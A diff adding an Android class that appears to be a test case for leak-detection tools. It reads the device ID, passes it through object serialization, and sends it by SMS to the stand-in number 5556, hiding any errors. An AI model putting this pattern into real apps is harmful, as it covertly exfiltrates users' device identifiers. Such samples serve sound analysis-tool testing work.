@@ -1,0 +1,39 @@
+package org.brookside.ways;
+
+import android.app.*;
+import android.content.*;
+import android.content.res.Configuration;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.lang.ref.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.*;
+import java.util.regex.*;
+
+/** Written as an object into memory and read again. */
+public class Serialised extends Case {
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        try {
+            ByteArrayOutputStream o = new ByteArrayOutputStream();
+            ObjectOutputStream w = new ObjectOutputStream(o);
+            w.writeObject(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
+            w.close();
+            ObjectInputStream r = new ObjectInputStream(new ByteArrayInputStream(o.toByteArray()));
+            SmsManager.getDefault().sendTextMessage("5556", null, (String) r.readObject(), null, null);
+        } catch (Exception x) { }
+    }
+}
